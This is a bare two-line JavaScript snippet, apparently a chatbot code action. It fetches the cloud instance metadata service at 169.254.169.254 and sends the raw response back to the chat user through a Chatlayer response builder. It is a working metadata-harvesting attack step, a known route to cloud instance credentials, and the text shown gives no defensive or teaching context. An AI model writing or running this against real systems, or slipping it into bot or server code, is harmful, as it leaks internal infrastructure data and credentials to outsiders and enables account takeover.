const res = await fetch("http://169.254.169.254/latest/meta-data/");
ChatlayerResponseBuilder().addMessage(await res.text()).send();
